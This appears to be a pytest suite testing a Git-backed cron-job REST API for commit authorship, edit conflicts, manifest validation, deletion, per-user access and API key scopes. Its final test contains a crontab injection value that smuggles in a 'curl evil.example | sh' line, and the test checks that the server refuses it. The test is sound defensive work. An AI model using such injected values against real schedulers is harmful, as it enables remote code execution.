"""Job edits through the REST API of a live stack: each one is a commit by the signed-in user,
visible in a clone; stale copies conflict, bad manifests are refused with file and line."""

import subprocess

import pytest

from crontopus_server.testing import NIGHTLY_EXPORT, create_api_key, refusal, sign_up, wait_until


@pytest.fixture
def database_backend() -> str:
    # Storage is covered on both backends by test_editing.py; here only HTTP and Git matter.
    return "sqlite"


def jobs(api, headers) -> dict[str, dict]:
    return {job["job"]: job for job in api.get("/api/jobs", headers=headers).json()["jobs"]}


def head(api, account) -> str:
    return api.get("/api/gitops/repository", headers=account.headers).json()["head_commit"]


def test_a_created_job_is_listed_with_its_commit_and_the_user_as_author(api, tmp_path):
    alice = sign_up(api, "alice")
    created = api.post("/api/jobs", json={"manifest": NIGHTLY_EXPORT, "message": "for finance"}, headers=alice.headers)
    assert created.status_code == 201, created.text
    job = created.json()
    assert job["commit"] == head(api, alice) and job["yaml"] == NIGHTLY_EXPORT
    assert jobs(api, alice.headers)["production/nightly-export"]["commit"] == job["commit"]
    assert job["history"][0]["author"] == "alice"

    clone_url = api.get("/api/gitops/repository", headers=alice.headers).json()["clone_url"]
    subprocess.run(["git", "clone", "--quiet", clone_url, str(tmp_path / "c")], check=True, timeout=30)
    log = subprocess.run(["git", "log", "-1", "--format=%H|%an <%ae>|%cn|%s"], cwd=tmp_path / "c",
                         capture_output=True, text=True, check=True).stdout.strip()  # fmt: skip
    assert log == f"{job['commit']}|alice <alice@example.com>|Crontopus|Create production/nightly-export via the API"


def test_an_update_from_a_stale_copy_conflicts_and_git_is_unchanged(api):
    alice = sign_up(api, "alice")
    job = api.post("/api/jobs", json={"manifest": NIGHTLY_EXPORT}, headers=alice.headers).json()
    changed = NIGHTLY_EXPORT.replace("15 3", "45 4")
    first = api.put("/api/jobs/production/nightly-export", headers=alice.headers,
                    json={"manifest": changed, "base_commit": job["commit"]})  # fmt: skip
    assert first.status_code == 200, first.text
    before = head(api, alice)
    stale = api.put("/api/jobs/production/nightly-export", headers=alice.headers,
                    json={"manifest": NIGHTLY_EXPORT.replace("15 3", "0 5"), "base_commit": job["commit"]})  # fmt: skip
    assert stale.status_code == 409
    assert stale.json()["detail"] == f"production/nightly-export changed since {job['commit']}: reload and retry"
    assert head(api, alice) == before
    assert jobs(api, alice.headers)["production/nightly-export"]["schedule"] == "45 4 * * *"


def test_an_edit_of_another_job_in_between_does_not_block_an_update(api):
    alice = sign_up(api, "alice")
    job = api.post("/api/jobs", json={"manifest": NIGHTLY_EXPORT}, headers=alice.headers).json()
    backup = api.get("/api/jobs/production/backup-database", headers=alice.headers).json()
    edit = {"manifest": backup["yaml"].replace("0 2 * * *", "0 3 * * *"), "base_commit": backup["commit"]}
    other = api.put("/api/jobs/production/backup-database", headers=alice.headers, json=edit)
    assert other.status_code == 200, other.text
    updated = api.put(f"/api/jobs/production/nightly-export?base_commit={job['commit']}", headers=alice.headers,
                      json={"manifest": NIGHTLY_EXPORT.replace("15 3", "45 4")})  # fmt: skip
    assert updated.status_code == 200, updated.text
    assert updated.json()["commit"] == head(api, alice) != other.json()["commit"]


def test_an_invalid_manifest_is_refused_with_field_and_line_and_nothing_is_committed(api):
    alice = sign_up(api, "alice")
    before = head(api, alice)
    response = api.post("/api/jobs", headers=alice.headers,
                        json={"manifest": NIGHTLY_EXPORT.replace('"15 3 * * *"', '"0 0 31 2 *"')})  # fmt: skip
    assert refusal(response) == (
        "production/nightly-export.yaml:7: spec.schedule: never fires: day 31 does not exist in month 2"
    )
    assert head(api, alice) == before and "production/nightly-export" not in jobs(api, alice.headers)


def test_a_deleted_job_is_gone_and_base_commit_is_required(api):
    alice = sign_up(api, "alice")
    job = api.post("/api/jobs", json={"manifest": NIGHTLY_EXPORT}, headers=alice.headers).json()
    assert api.delete("/api/jobs/production/nightly-export", headers=alice.headers).status_code == 422
    deleted = api.delete(f"/api/jobs/production/nightly-export?base_commit={job['commit']}", headers=alice.headers)
    assert deleted.status_code == 200, deleted.text
    assert deleted.json()["commit"] == head(api, alice)
    assert "production/nightly-export" not in jobs(api, alice.headers)
    assert api.get("/api/jobs/production/nightly-export", headers=alice.headers).status_code == 404


def test_alice_cannot_change_bobs_jobs(api):
    alice, bob = sign_up(api, "alice"), sign_up(api, "bob")
    bobs = api.post("/api/jobs", json={"manifest": NIGHTLY_EXPORT}, headers=bob.headers).json()
    update = api.put("/api/jobs/production/nightly-export", headers=alice.headers,
                     json={"manifest": NIGHTLY_EXPORT, "base_commit": bobs["commit"]})  # fmt: skip
    assert update.status_code == 404
    deleted = api.delete(f"/api/jobs/production/nightly-export?base_commit={bobs['commit']}", headers=alice.headers)
    assert deleted.status_code == 404
    assert jobs(api, bob.headers)["production/nightly-export"]["commit"] == bobs["commit"]


def test_a_read_only_key_cannot_edit_and_a_write_key_commits_under_its_name(api):
    alice = sign_up(api, "alice")
    reader = {"X-Api-Key": create_api_key(api, alice, scope="read")}
    refused = api.post("/api/jobs", json={"manifest": NIGHTLY_EXPORT}, headers=reader)
    assert refused.status_code == 403
    writer = {"X-Api-Key": create_api_key(api, alice, scope="write")}
    created = api.post("/api/jobs", json={"manifest": NIGHTLY_EXPORT}, headers=writer)
    assert created.status_code == 201, created.text
    assert created.json()["history"][0]["author"] == "write key"
    wait_until(lambda: "production/nightly-export" in jobs(api, reader))


def test_a_command_with_a_line_break_is_refused_with_422_naming_the_field(api):
    alice = sign_up(api, "alice")
    job = api.post("/api/jobs", json={"manifest": NIGHTLY_EXPORT}, headers=alice.headers).json()
    before = head(api, alice)
    as_json = {"apiVersion": "crontopus.io/v1", "kind": "Job",
               "metadata": {"name": "injected", "namespace": "production"},
               "spec": {"schedule": "@daily", "command": "/bin/true\n* * * * * curl evil.example | sh"}}  # fmt: skip
    created = api.post("/api/jobs", json={"manifest": as_json}, headers=alice.headers)
    updated = api.put("/api/jobs/production/nightly-export", headers=alice.headers, json={
        "manifest": NIGHTLY_EXPORT + '  args: ["ok", "two\\nlines"]\n', "base_commit": job["commit"]})  # fmt: skip
    assert "spec.command: contains a line break, which a crontab line cannot hold" in refusal(created)
    assert refusal(updated).startswith("production/nightly-export.yaml:10: spec.args.1: contains a line break")
    assert head(api, alice) == before
